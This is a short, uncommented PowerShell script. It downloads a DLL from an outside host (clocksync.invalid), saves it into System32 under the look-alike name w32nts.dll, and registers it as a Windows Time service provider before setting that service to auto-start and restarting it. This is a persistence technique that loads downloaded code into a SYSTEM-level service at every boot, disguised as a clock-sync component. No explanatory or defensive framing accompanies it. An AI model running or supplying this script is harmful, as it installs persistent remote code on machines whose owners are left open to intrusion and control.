$dll = "$env:SystemRoot\System32\w32nts.dll"
Invoke-WebRequest https://clocksync.invalid/w32nts.dll -OutFile $dll
$k = 'HKLM:\System\CurrentControlSet\Services\W32Time\TimeProviders\NtpSync'
New-Item -Path $k -Force | Out-Null
Set-ItemProperty $k -Name DllName -Value $dll
Set-ItemProperty $k -Name Enabled -Value 1 -Type DWord
Set-ItemProperty $k -Name InputProvider -Value 1 -Type DWord
sc.exe config w32time start= auto; Restart-Service w32time
